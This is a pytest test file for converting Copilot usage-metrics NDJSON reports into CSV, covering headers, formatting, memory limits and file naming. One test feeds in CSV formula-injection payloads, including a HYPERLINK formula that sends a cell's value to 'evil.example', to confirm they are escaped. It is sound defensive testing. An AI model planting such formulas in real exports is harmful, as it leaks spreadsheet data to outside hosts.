"""CSV conversions of the report files: columns, contents, format, and constant memory."""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import json
import shutil
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from copilot_metrics import download, ndjson, schema, tabular
from emulator import data

FIXTURES = Path(__file__).parent / "fixtures"
COUNTERS = [
    "user_initiated_interaction_count",
    "code_generation_activity_count",
    "code_acceptance_activity_count",
    "loc_suggested_to_add_sum",
    "loc_suggested_to_delete_sum",
    "loc_added_sum",
    "loc_deleted_sum",
]
AGGREGATE_COLUMNS = [*schema.columns("aggregate"), "other_fields"]
USERS_COLUMNS = [*schema.columns("users"), "other_fields"]
AGGREGATE_FILES = [
    "by_ide",
    "by_feature",
    "by_language_feature",
    "by_language_model",
    "by_model_feature",
    "by_3rd_party_agent",
    "by_ai_adoption_phase",
    "by_comment_type",
    "by_engaged_feature",
]
USERS_FILES = [
    "by_ide",
    "by_feature",
    "by_language_feature",
    "by_language_model",
    "by_model_feature",
    "by_3rd_party_agent",
    "by_custom_agent",
    "by_mcp",
    "by_plugin",
    "by_skill",
    "by_slash_cmd",
]


def copy(tmp_path: Path, name: str) -> Path:
    target = tmp_path / name
    shutil.copyfile(FIXTURES / name, target)
    return target


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def header(path: Path) -> list[str]:
    return path.read_bytes().split(b"\r\n", 1)[0].decode().split(",")


def test_aggregate_report_gives_a_day_file_and_one_file_per_breakdown(tmp_path: Path) -> None:
    source = copy(tmp_path, "organization-28-day_part-1.ndjson")

    written = tabular.write_csv(source, "organization-28-day")

    stem = "organization-28-day_part-1"
    assert written == [tmp_path / f"{stem}.csv", *(tmp_path / f"{stem}.{name}.csv" for name in AGGREGATE_FILES)]
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([source.name, *(p.name for p in written)])
    assert header(written[0]) == AGGREGATE_COLUMNS
    assert header(written[0])[:5] == ["report_start_day", "report_end_day", "day", "enterprise_id", "organization_id"]
    days = read(written[0])
    assert [row["day"] for row in days] == ["2026-03-01", "2026-03-02"]
    first = days[0]
    assert first["report_start_day"] == "2026-03-01" and first["report_end_day"] == "2026-03-03"
    assert first["organization_id"] == "7" and first["enterprise_id"] == ""
    assert first["daily_active_users"] == "3" and first["code_generation_activity_count"] == "20"
    assert first["totals_by_cli.token_usage.output_tokens_sum"] == "300"
    assert first["totals_by_cli.prompt_count"] == ""
    assert first["pull_requests.total_created"] == "2"
    assert first["other_fields"] == ""


def test_breakdown_rows_are_one_per_day_and_key(tmp_path: Path) -> None:
    source = copy(tmp_path, "organization-28-day_part-1.ndjson")
    stem = source.with_suffix("")

    tabular.write_csv(source, "organization-28-day")

    by_ide = Path(f"{stem}.by_ide.csv")
    assert header(by_ide) == ["day", "organization_id", "enterprise_id", "ide", *COUNTERS, "other_fields"]
    assert header(Path(f"{stem}.by_ai_adoption_phase.csv"))[3:6] == ["phase", "phase_number", "total_engaged_users"]
    rows = [(row["day"], row["ide"], row["code_generation_activity_count"]) for row in read(by_ide)]
    assert rows == [("2026-03-01", "vscode", "12"), ("2026-03-01", "jetbrains", "8"), ("2026-03-02", "vscode", "30")]
    by_language_feature = read(Path(f"{stem}.by_language_feature.csv"))
    assert [(r["language"], r["feature"], r["loc_added_sum"]) for r in by_language_feature] == [
        ("python", "code_completion", "20"),
        ("go", "agent_edit", "20"),
    ]
    assert header(Path(f"{stem}.by_model_feature.csv"))[3:5] == ["model", "feature"]
    assert header(Path(f"{stem}.by_language_model.csv"))[3:5] == ["language", "model"]


def test_unknown_fields_go_to_other_fields_and_malformed_lines_are_skipped(tmp_path: Path) -> None:
    source = copy(tmp_path, "organization-28-day_part-2.ndjson")

    written = tabular.write_csv(source, "organization-28-day")

    assert header(written[0]) == AGGREGATE_COLUMNS
    days = read(written[0])
    assert [row["day"] for row in days] == ["2026-03-02", "2026-03-03"]
    assert json.loads(days[1]["other_fields"]) == {"extra_obj.a": 1, "new_metric": 9}
    assert days[1]["other_fields"] == '{"extra_obj.a":1,"new_metric":9}'
    ides = read(written[1])
    assert [(row["day"], row["ide"], row["code_generation_activity_count"], row["other_fields"]) for row in ides] == [
        ("2026-03-02", "vscode", "30", ""),
        ("2026-03-03", "vscode", "40", '{"brand_new":1}'),
        ("2026-03-03", "neovim", "many", ""),
    ]
    assert read(written[2]) == []


def test_one_day_aggregate_lines_are_days_themselves(tmp_path: Path) -> None:
    source = copy(tmp_path, "enterprise-1-day_2026-03-04.ndjson")

    written = tabular.write_csv(source, "enterprise-1-day")

    days = read(written[0])
    assert [(row["day"], row["enterprise_id"], row["daily_active_users"]) for row in days] == [
        ("2026-03-04", "1", "10"),
        ("2026-03-04", "2", "1"),
    ]
    models = read(next(path for path in written if path.name.endswith(".by_model_feature.csv")))
    assert [(row["enterprise_id"], row["model"], row["code_generation_activity_count"]) for row in models] == [
        ("1", "claude-sonnet-4", "200"),
        ("2", "gpt-4.1", "2"),
    ]


def test_users_report_gives_one_row_per_user_day(tmp_path: Path) -> None:
    source = copy(tmp_path, "users-28-day_part-1.ndjson")

    written = tabular.write_csv(source, "users-28-day")

    assert [path.name for path in written] == [
        "users-28-day_part-1.csv",
        *(f"users-28-day_part-1.{name}.csv" for name in USERS_FILES),
    ]
    assert header(written[0]) == USERS_COLUMNS
    rows = read(written[0])
    assert [(row["day"], row["user_id"], row["user_login"]) for row in rows] == [
        ("2026-03-01", "101", "alice"),
        ("2026-03-01", "102", "bob"),
        ("2026-03-02", "101", "alice"),
    ]
    alice = rows[0]
    assert (alice["used_agent"], alice["used_chat"], alice["used_cli"]) == ("true", "true", "false")
    assert alice["ai_credits_used"] == "1.5"
    assert alice["totals_by_cli.session_count"] == "0"
    assert alice["other_fields"] == ""
    by_ide = read(written[1])
    assert list(by_ide[0])[:6] == ["day", "user_id", "user_login", "organization_id", "enterprise_id", "ide"]
    versions = [
        "last_known_ide_version.ide_version",
        "last_known_plugin_version.plugin",
        "last_known_plugin_version.plugin_version",
    ]
    assert [by_ide[0][name] for name in versions] == ["1.106.0", "copilot-chat", "0.33.1"]
    assert by_ide[0]["other_fields"] == ""
    assert [(row["user_login"], row["ide"]) for row in by_ide] == [
        ("alice", "vscode"),
        ("bob", "jetbrains"),
        ("bob", "vscode"),
        ("alice", "vscode"),
        ("alice", "vscode"),
    ]


def test_csv_is_rfc_4180_utf_8_with_crlf(tmp_path: Path) -> None:
    source = copy(tmp_path, "users-28-day_part-2.ndjson")
    with source.open("a", encoding="utf-8") as stream:
        stream.write('{"day":"2026-03-02","user_id":106,"user_login":"zoë","new":"two\\nlines"}\n')

    main = tabular.write_csv(source, "users-28-day")[0]

    raw = main.read_bytes()
    assert raw.count(b"\r\n") == 5
    assert b'"carol, ""the"" tester"' in raw
    assert "zoë".encode() in raw
    assert not raw.startswith(b"\xef\xbb\xbf")
    rows = read(main)
    assert [row["user_login"] for row in rows] == ["bob", 'carol, "the" tester', "dave", "zoë"]
    assert rows[0]["other_fields"] == '{"new_thing.x":[1,2]}'
    assert rows[0]["used_agent"] == "yes"
    assert rows[2]["day"] == ""
    assert json.loads(rows[3]["other_fields"]) == {"new": "two\nlines"}


def test_the_header_is_the_same_whatever_the_data_holds(tmp_path: Path) -> None:
    first = tmp_path / "a.ndjson"
    second = tmp_path / "b.ndjson"
    first.write_text('{"day":"2026-03-01","zeta":1,"alpha":{"b":2}}\n')
    second.write_text('{"mystery":true}\n')

    headers = [header(tabular.write_csv(path, "organization-1-day")[0]) for path in (first, second)]

    assert headers[0] == headers[1] == AGGREGATE_COLUMNS
    assert read(tmp_path / "a.csv")[0]["other_fields"] == '{"alpha.b":2,"zeta":1}'


def test_user_teams_and_repos_give_one_row_per_line(tmp_path: Path) -> None:
    teams = copy(tmp_path, "user-teams-1-day_part-1.ndjson")
    repos = copy(tmp_path, "repos-1-day.ndjson")

    team_files = tabular.write_csv(teams, "user-teams-1-day")
    repo_files = tabular.write_csv(repos, "repos-1-day")

    assert team_files == [tmp_path / "user-teams-1-day_part-1.csv"]
    assert header(team_files[0]) == [
        "day", "enterprise_id", "organization_id", "user_id", "user_login", "team_id", "slug", "other_fields",
    ]  # fmt: skip
    assert [(row["slug"], row["other_fields"]) for row in read(team_files[0])] == [
        ("platform", ""),
        ("platform", ""),
        ("web", '{"team_name":"Web"}'),
    ]
    assert [path.name for path in repo_files] == [
        "repos-1-day.csv",
        "repos-1-day.by_comment_type.csv",
        "repos-1-day.by_review_times.csv",
    ]
    assert header(repo_files[0])[:7] == [
        "day", "enterprise_id", "organization_id", "repo_id", "repo_owner_name", "repo_name", "repo_visibility",
    ]  # fmt: skip
    rows = read(repo_files[0])
    assert len(rows) == 5
    assert [(row["repo_owner_name"], row["repo_name"], row["pull_requests.total_merged"]) for row in rows[:2]] == [
        ("octo", "api", "1"),
        ("octo", "web", "9"),
    ]
    assert rows[2]["other_fields"] == '{"stars":3}'
    assert rows[4]["other_fields"] == '{"foo":1}'
    stages = read(repo_files[2])
    assert [(row["repo_name"], row["authored_by"], row["median_minutes_ready_to_first_review"]) for row in stages] == [
        ("api", "human", "30"),
        ("web", "human", "120"),
    ]


def test_a_failed_conversion_leaves_no_file_behind(tmp_path: Path) -> None:
    missing = tmp_path / "gone.ndjson"

    with pytest.raises(FileNotFoundError):
        tabular.write_csv(missing, "users-1-day")

    assert list(tmp_path.iterdir()) == []


def test_an_overlong_line_is_skipped_without_reading_it_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ndjson, "MAX_LINE_BYTES", 64)
    source = tmp_path / "users.ndjson"
    source.write_text(
        '{"day":"2026-03-01","user_id":1}\n{"day":"' + "x" * 500 + '"}\n{"day":"2026-03-02","user_id":2}\n'
    )

    assert [record and record["user_id"] for record in ndjson.records(source)] == [1, None, 2]


def test_emulator_users_report_converts_every_line(tmp_path: Path) -> None:
    days = [dt.date(2026, 1, 1), dt.date(2026, 1, 2)]
    source = tmp_path / "users.ndjson"
    source.write_bytes(b"".join(data.users("seed", "organization_id", 5, days, 1)))

    written = tabular.write_csv(source, "users-28-day")

    lines = source.read_bytes().count(b"\n")
    rows = read(written[0])
    assert len(rows) == lines
    assert all(row["other_fields"] == "" for row in rows)
    assert sum(len(read(path)) for path in written[1:]) > lines


def test_a_large_users_report_is_converted_in_constant_memory(tmp_path: Path) -> None:
    source = tmp_path / "users.ndjson"
    data.make_users_shard(source, 8 * 1024 * 1024)

    tracemalloc.start()
    try:
        written = tabular.write_csv(source, "users-28-day")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert peak < 3 * 1024 * 1024
    assert sum(path.stat().st_size for path in written) > 2 * 1024 * 1024


@pytest.mark.slow
def test_a_200_mb_users_report_is_converted_in_constant_memory(tmp_path: Path) -> None:
    source = tmp_path / "users.ndjson"
    data.make_users_shard(source, 200 * 1024 * 1024)

    tracemalloc.start()
    try:
        tabular.write_csv(source, "users-28-day")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()

    assert peak < 3 * 1024 * 1024


_VALUES = st.none() | st.booleans() | st.integers() | st.text(max_size=8) | st.lists(st.integers(), max_size=2)
_RECORDS = st.dictionaries(
    st.sampled_from(["day", "user_id", "slug", "repo_name", "totals_by_ide", "pull_requests", "new", "a.b"]),
    _VALUES | st.dictionaries(st.sampled_from(["ide", "total_created", "x"]), _VALUES, max_size=3),
    max_size=6,
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    lines=st.lists(_RECORDS.map(json.dumps) | st.text(alphabet='{}[]"x1 ,:', max_size=10), max_size=8),
    report=st.sampled_from(["users-1-day", "user-teams-1-day", "repos-1-day"]),
)
def test_every_object_line_becomes_one_row_with_the_same_header(tmp_path: Path, lines: list[str], report: str) -> None:
    source = tmp_path / "report.ndjson"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    objects = 0
    for line in source.read_text(encoding="utf-8").splitlines():
        with contextlib.suppress(ValueError):
            objects += isinstance(json.loads(line), dict)

    main = tabular.write_csv(source, report)[0]

    with main.open(encoding="utf-8", newline="") as stream:
        table = list(csv.reader(stream))
    assert table[0] == [*schema.columns(schema.report_named(report).kind), "other_fields"]
    assert len(table) - 1 == objects
    assert all(len(row) == len(table[0]) for row in table)


def test_text_cells_a_spreadsheet_would_run_as_formulas_get_a_leading_quote(tmp_path: Path) -> None:
    source = tmp_path / "users.ndjson"
    line = {
        "day": "2026-03-02",
        "user_id": 1,
        "user_login": "@SUM(1+1)",
        "loc_deleted_sum": -3,
        "ai_credits_used": -0.5,
        "totals_by_ide": [
            {"ide": '=HYPERLINK("https://evil.example/?"&C2,"open")', "code_generation_activity_count": 1},
            {"ide": "+cmd", "last_known_ide_version": {"ide_version": "-2+3"}},
            {"ide": "\tvscode"},
            {"ide": "\rvscode"},
            {"ide": "vscode=1"},
        ],
    }
    source.write_text(json.dumps(line) + "\n")

    written = tabular.write_csv(source, "users-1-day")

    main = read(written[0])[0]
    assert main["user_login"] == "'@SUM(1+1)"
    assert (main["loc_deleted_sum"], main["ai_credits_used"]) == ("-3", "-0.5")
    by_ide = read(written[1])
    assert [row["ide"] for row in by_ide] == [
        '\'=HYPERLINK("https://evil.example/?"&C2,"open")',
        "'+cmd",
        "'\tvscode",
        "'\rvscode",
        "vscode=1",
    ]
    assert by_ide[1]["last_known_ide_version.ide_version"] == "'-2+3"
    assert by_ide[0]["user_login"] == "'@SUM(1+1)"
    assert by_ide[0]["code_generation_activity_count"] == "1"


def test_a_formula_in_an_undocumented_field_cannot_start_the_other_fields_cell(tmp_path: Path) -> None:
    source = tmp_path / "teams.ndjson"
    source.write_text('{"day":"2026-03-02","slug":"web","=cmd":"x"}\n')

    main = tabular.write_csv(source, "user-teams-1-day")[0]

    assert read(main)[0]["other_fields"] == '{"=cmd":"x"}'


def test_colliding_dotted_keys_keep_every_value(tmp_path: Path) -> None:
    source = tmp_path / "org.ndjson"
    source.write_text(
        '{"day":"2026-03-02","a.b":1,"a":{"b":2},"pull_requests.total_created":5,"pull_requests":{"total_created":2}}\n'
    )

    main = tabular.write_csv(source, "organization-1-day")[0]

    row = read(main)[0]
    assert row["pull_requests.total_created"] == "2"
    assert json.loads(row["other_fields"]) == {"a\\.b": 1, "a.b": 2, "pull_requests\\.total_created": 5}
    assert tabular.flatten({"a.b": 1, "a": {"b": 2}, "c\\": {"d": 3}}) == {"a\\.b": 1, "a.b": 2, "c\\\\.d": 3}


def test_only_ndjson_files_are_converted(tmp_path: Path) -> None:
    downloaded = tmp_path / "report.csv"
    downloaded.write_text("GitHub's own file\n")
    other = tmp_path / "report.json"
    other.write_text('{"day":"2026-03-02"}\n')

    assert tabular.write_csv(downloaded, "users-1-day") == []
    assert tabular.write_csv(other, "users-1-day") == []
    assert downloaded.read_text() == "GitHub's own file\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["report.csv", "report.json"]


def test_every_name_a_conversion_writes_is_a_reserved_name(tmp_path: Path) -> None:
    for report in schema.REPORTS:
        for path in tabular.csv_paths(tmp_path / "x.ndjson", report):
            assert tabular.is_derived_name(path.name)
    assert tabular.is_derived_name("REPORT.CSV")
    assert not tabular.is_derived_name("report.ndjson")


@pytest.mark.parametrize(
    ("link", "kept_as"),
    [
        ("https://reports.example/d/report.csv?sig=s", "report.csv.ndjson"),
        ("https://reports.example/d/REPORT.by_ide.CSV?sig=s", "REPORT.by_ide.CSV.ndjson"),
        ("https://reports.example/d/report.ndjson?sig=s", "report.ndjson"),
    ],
)
def test_a_downloaded_file_never_takes_a_name_a_conversion_may_write(link: str, kept_as: str) -> None:
    name = download.file_name(link, 0)

    assert name == kept_as
    assert not tabular.is_derived_name(name)
